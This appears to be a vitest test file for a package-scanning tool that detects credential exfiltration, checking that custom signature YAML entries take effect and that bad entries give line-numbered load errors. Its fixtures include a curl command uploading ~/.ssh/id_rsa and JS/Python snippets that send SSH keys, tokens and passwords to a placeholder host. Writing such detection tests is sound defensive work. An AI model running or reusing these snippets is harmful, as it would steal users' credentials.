// The library tables that were TypeScript constants are data too (signatures/): an entry
// added through a --signatures directory takes effect, one test per entry kind; an entry
// no front-end reads is a load error naming file and line.
import { describe, expect, it } from "vitest";
import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
import { irrelevantFiles } from "../../src/analyzers/js/relevance.js";
import { loadSignatures } from "../../src/rules/signatures.js";
import { makePackage } from "../analyzers/js/helpers.js";
import { dedent } from "../analyzers/python/helpers.js";
import { base, extraDir, jsFindings, loadError, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";

const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));

describe("sinks.yaml js tables", () => {
  it("js.configMembers: a member that configures a client is not a send", async () => {
    const module = 'js: { modules: { zorblat-net: { "*": http } }, globals: {}';
    const without = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module} }` }) })]);
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module}, configMembers: [setup] }` }) })]);
    const js = 'const z = require("zorblat-net");\nz.setup("https://c.example.invalid/", JSON.stringify(process.env));\n';
    expect(await jsFindings(js, without)).toContain("credential-exfiltration critical 2");
    expect(critical(await jsFindings(js, sigs))).toBe(false);
  });

  it("js.authOptions: a request option that carries the request's credential authenticates", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: "js: { modules: {}, globals: {}, authOptions: [zorblatKey] }" }) })]);
    const js = 'fetch("https://c.example.invalid/v1", { method: "POST", zorblatKey: process.env.ZORBLAT_TOKEN });\n';
    expect(await jsFindings(js, base)).toContain("credential-exfiltration critical 1");
    expect(critical(await jsFindings(js, sigs))).toBe(false);
  });
});

describe("commands.yaml runners.js", () => {
  const send = "curl -F k=@$HOME/.ssh/id_rsa https://c.example.invalid/";
  it("modules + commandLine: a new module's member that runs a command line", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { modules: [zorblat-run], commandLine: [runLine] } }\n" })]);
    const js = `require("zorblat-run").runLine("${send}");\n`;
    expect(critical(await jsFindings(js, base))).toBe(false);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });

  it("argv: a member that takes a program and its arguments", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { modules: [zorblat-run], argv: [runArgv] } }\n" })]);
    const js = 'require("zorblat-run").runArgv("curl", ["-F", "k=@/root/.ssh/id_rsa", "https://c.example.invalid/"]);\n';
    const onlyModule = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { modules: [zorblat-run] } }\n" })]);
    expect(critical(await jsFindings(js, onlyModule))).toBe(false);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });

  it("commandLineModules: every member of the module runs a command line", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { commandLineModules: [zorblat-shell] } }\n" })]);
    const js = `require("zorblat-shell").anything("${send}");\n`;
    expect(critical(await jsFindings(js, base))).toBe(false);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });
});

/** A --signatures set whose sources.yaml has `more` (and the credential files `files`). */
const sources = (more: string, files = "[]") => loadSignatures([extraDir({ "sources.yaml": sourcesYaml(files, "[]", more) })]);

describe("sources.yaml js tables", () => {
  it("fileApis.js modules + reads: a new module's member that reads a file", async () => {
    const sigs = sources("fileApis: { js: { modules: [zorblat-fs], reads: [slurpSync] } }\n");
    const js = 'const os = require("os");\nconst key = require("zorblat-fs").slurpSync(os.homedir() + "/.ssh/id_rsa");\nfetch("https://c.example.invalid/", { method: "POST", body: key });\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
  });

  it("fileApis.js lists: a member that lists a path reads it", async () => {
    const sigs = sources("fileApis: { js: { lists: [zlistSync] } }\n");
    const js = 'const os = require("os"); const fs = require("fs");\nconst key = fs.zlistSync(os.homedir() + "/.ssh/id_rsa");\nfetch("https://c.example.invalid/", { method: "POST", body: key });\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
  });

  it("fileApis.js copies: copying a credential file is a read of it (the copy returns nothing)", async () => {
    const sigs = sources("fileApis: { js: { copies: [zcopySync] } }\n");
    const js = 'const os = require("os"); const fs = require("fs");\nfs.zcopySync(os.homedir() + "/.ssh/id_rsa", "/tmp/k");\n';
    const kinds = async (signatures: typeof base) => (await analyzeNpmPackage(makePackage({ "index.js": js }), signatures)).sources.map((s) => s.kind);
    expect(await kinds(base)).toEqual([]);
    expect(await kinds(sigs)).toEqual(["ssh-key"]);
  });

  it("fileApis.js writes: what a new member writes is read back from the file", async () => {
    const sigs = sources("fileApis: { js: { writes: [zputSync] } }\n");
    const js = 'const os = require("os"); const fs = require("fs");\nfs.zputSync("/tmp/stage.txt", fs.readFileSync(os.homedir() + "/.ssh/id_rsa"));\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync("/tmp/stage.txt") });\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
  });

  it("promptModules.js: a new prompt library's password answer is a credential", async () => {
    const sigs = sources("promptModules: { js: [zorblat-ask] }\n");
    const js = 'async function main() {\n  const p = await require("zorblat-ask").password("Your login:");\n  fetch("https://c.example.invalid/?p=" + p);\n}\nmain();\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
  });

  it("homeVariables: a new variable holding the home directory, in JS and Python", async () => {
    const zorblatToken = '[{ kind: registry-token, pattern: "^~/\\\\.zorblat/token$", note: zorblat token }]';
    const without = sources("", zorblatToken);
    const sigs = sources("homeVariables: [ZHOME]\n", zorblatToken);
    const js = 'const fs = require("fs");\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync(process.env.ZHOME + "/.zorblat/token") });\n';
    const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=open(os.environ["ZHOME"] + "/.zorblat/token").read())\n';
    expect(await jsFindings(js, without)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(py, without)).toEqual([]);
    expect(await pyFindings(py, sigs)).toEqual(["credential-exfiltration critical 2"]);
  });

  it("homeFolders: a new variable holding a folder under home, per front-end", async () => {
    const js = 'const fs = require("fs");\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync(process.env.ZSSH + "/id_rsa") });\n';
    const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=open(os.path.join(os.getenv("ZSSH"), "id_rsa")).read())\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sources("homeFolders: { js: { ZSSH: ~/.ssh } }\n"))).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sources("homeFolders: { python: { ZSSH: ~/.ssh } }\n"))).toEqual(["credential-exfiltration critical 2"]);
  });
});

describe("sources.yaml credentialConsumers.js", () => {
  const code = (module: string) => `const client = require("${module}");\nexports.connect = function (host, secretKey) {\n  fetch("https://c.example.invalid/", { method: "POST", body: secretKey });\n};\n`;
  const consumers = (group: string) => sources(`credentialConsumers: { js: { ${group}: [zorblat-keys] } }\n`);
  const kinds = async (signatures: typeof base) => (await analyzeNpmPackage(makePackage({ "index.js": code("zorblat-keys") }), signatures)).sources.map((s) => s.kind);

  it("a file importing a new consumer reads its key-named parameters as credentials: SSH keys (ssh, other) or wallet keys (wallet)", async () => {
    expect(await jsFindings(code("zorblat-keys"), base)).toEqual([]);
    expect(await jsFindings(code("zorblat-keys"), consumers("ssh"))).toEqual(["credential-exfiltration critical 3"]);
    expect(await kinds(base)).toEqual([]);
    expect(await kinds(consumers("ssh"))).toEqual(["ssh-key"]);
    expect(await kinds(consumers("wallet"))).toEqual(["keychain"]);
    expect(await kinds(consumers("other"))).toEqual(["ssh-key"]);
  });

  it("ssh: a file importing a new SSH client is analysed on its own (relevance)", () => {
    const files = new Map([["index.js", Buffer.from('const client = require("zorblat-keys");\nexports.connect = (host, password) => client.login(host, password);\n')]]);
    expect(irrelevantFiles(files, ["index.js"], base)).toEqual(new Set(["index.js"]));
    expect(irrelevantFiles(files, ["index.js"], consumers("wallet"))).toEqual(new Set(["index.js"]));
    expect(irrelevantFiles(files, ["index.js"], consumers("ssh"))).toEqual(new Set());
  });
});

describe("transforms.yaml (Python)", () => {
  const transforms = (yaml: string) => loadSignatures([extraDir({ "transforms.yaml": yaml })]);
  const token = 'os.environ["ZORBLAT_TOKEN"]';
  /** The notes of each flow's steps. */
  async function flowSteps(code: string, signatures: typeof base): Promise<string[][]> {
    const files = new Map([
      ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
      ["pkg/__init__.py", Buffer.from(dedent(code))],
    ]);
    const facts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
    return facts.flows.map((f) => f.steps.map((s) => s.note));
  }

  it("encoders: a new encoding call names its step in the flow", async () => {
    const py = `import os, requests, zorblat\nrequests.post("https://c.example.invalid/", data=zorblat.pack(${token}))\n`;
    const sigs = transforms("encoders: { python: { zorblat.pack: { note: zorblat-packed } } }\n");
    expect(await flowSteps(py, base)).toEqual([["reads environment variable ZORBLAT_TOKEN", "sent by requests.post()"]]);
    expect(await flowSteps(py, sigs)).toEqual([["reads environment variable ZORBLAT_TOKEN", "zorblat-packed", "sent by requests.post()"]]);
  });

  it("encoders fold: a constant input is encoded (decoded back, it is a destination)", async () => {
    const py = 'import base64, requests, zorblat\nrequests.post(base64.b64decode(zorblat.pack("https://webhook.site/zorblat")).decode(), data="hello")\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, transforms("encoders: { python: { zorblat.pack: { note: zorblat-packed } } }\n"))).toEqual([]);
    expect(await pyFindings(py, transforms("encoders: { python: { zorblat.pack: { note: zorblat-packed, fold: base64 } } }\n"))).toEqual(["exfil-service-destination medium 2"]);
  });

  it("sanitizers calls and prefixes: the result of a new digest call is not the secret", async () => {
    const py = `import os, requests, zorblat\nrequests.post("https://c.example.invalid/", data=zorblat.digest(${token}))\n`;
    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(py, transforms("sanitizers: { python: { calls: [zorblat.digest] } }\n"))).toEqual([]);
    expect(await pyFindings(py, transforms("sanitizers: { python: { prefixes: [zorblat.] } }\n"))).toEqual([]);
  });

  it("pathBuilders: a credential path handed to a new path-building call is not a read", async () => {
    const py = 'import os, requests, zorblat\nrequests.post("https://c.example.invalid/", data=zorblat.mkpath(os.path.expanduser("~/.ssh/id_rsa")))\n';
    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(py, transforms("pathBuilders: { python: [zorblat.mkpath] }\n"))).toEqual([]);
  });
});

describe("an entry no front-end reads", () => {
  it("configMembers or authOptions for Python, an unknown runners.js field: errors at their line", () => {
    expect(loadError({ "sinks.yaml": "js: { modules: {}, globals: {} }\npython:\n  modules: {}\n  builtins: {}\n  configMembers: [create]\nshellPrograms: {}\n" }).message).toMatch(/sinks\.yaml:3: python: Unrecognized key: "configMembers"/);
    expect(loadError({ "commands.yaml": "runners:\n  js:\n    modules: [zorblat-run]\n    shell: [runLine]\n" }).message).toMatch(/commands\.yaml:3: runners\.js: Unrecognized key: "shell"/);
  });

  it("Python file APIs or prompt modules, a lower-case or non-home variable: errors at their line", () => {
    const error = (more: string) => loadError({ "sources.yaml": sourcesYaml("[]", "[]", more) }).message;
    expect(error("fileApis:\n  python:\n    reads: [open]\n")).toMatch(/sources\.yaml:6: fileApis\.python: Unrecognized key: "reads"/);
    expect(error("promptModules:\n  python: [getpass]\n")).toMatch(/sources\.yaml:5: promptModules: Unrecognized key: "python"/);
    expect(error("credentialConsumers:\n  js:\n    database: [pg]\n")).toMatch(/sources\.yaml:6: credentialConsumers\.js: Unrecognized key: "database"/);
    expect(error("homeVariables:\n  - home\n")).toMatch(/sources\.yaml:5: homeVariables\.0: an environment variable name in upper case/);
    expect(error("homeFolders:\n  js:\n    ZSSH: /etc/ssh\n")).toMatch(/sources\.yaml:6: homeFolders\.js\.ZSSH: a folder under the home directory/);
  });

  it("transforms for JS, an unknown encoding or a prefix without its dot: errors at their line", () => {
    expect(loadError({ "transforms.yaml": "encoders:\n  js:\n    btoa: { note: base64-encoded }\n" }).message).toMatch(/transforms\.yaml:2: encoders: Unrecognized key: "js"/);
    expect(loadError({ "transforms.yaml": "encoders:\n  python:\n    zorblat.pack: { note: packed, fold: rot13 }\n" }).message).toMatch(/transforms\.yaml:3: encoders\.python\.zorblat\.pack\.fold/);
    expect(loadError({ "transforms.yaml": "sanitizers:\n  python:\n    prefixes: [hashlib]\n" }).message).toMatch(/transforms\.yaml:3: sanitizers\.python\.prefixes\.0: a module prefix ending in a dot/);
  });
});
